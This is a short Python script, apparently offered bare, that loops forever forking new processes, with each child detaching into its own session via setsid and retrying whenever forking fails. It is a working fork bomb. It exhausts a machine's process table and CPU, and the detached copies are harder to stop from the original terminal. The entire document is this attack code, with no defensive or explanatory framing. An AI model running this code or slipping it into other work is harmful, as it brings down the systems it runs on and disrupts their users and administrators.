# Doubles for ever; each copy leaves its session.
import os
import time

while True:
    try:
        if os.fork() == 0:
            os.setsid()
    except OSError:
        time.sleep(0.01)
